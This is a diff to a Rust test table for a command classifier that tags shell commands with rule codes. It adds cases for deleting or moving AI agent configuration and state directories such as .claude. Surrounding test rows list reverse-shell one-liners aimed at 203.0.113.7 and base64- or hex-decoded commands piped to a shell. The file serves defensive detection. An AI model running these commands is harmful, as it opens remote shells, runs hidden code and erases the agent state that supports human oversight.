@@ -451,6 +451,13 @@ const COMMAND_TABLE: &[(&str, &[&str])] = &[
     ("xxd -r -p hex.txt | sh", &["CMD019"]),
     ("eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"", &["CMD019"]),
     ("echo aGk= | base64 -d", NONE),
+    // --- the directories that hold the wiring or the state, as a whole
+    ("rm -rf .claude", &["CMD006"]),
+    ("mv .claude .claude.bak", &["CMD006"]),
+    ("rm -rf ~/.claude", &["CMD006"]),
+    ("rm -rf .agentops", &["CMD005"]),
+    ("rm -rf .claude-notes", NONE),
+    ("rm -rf docs/claude", NONE),
     // --- CMD021 network shells
     ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", &["CMD021"]),
     ("nc -e /bin/sh 203.0.113.7 4444", &["CMD021"]),
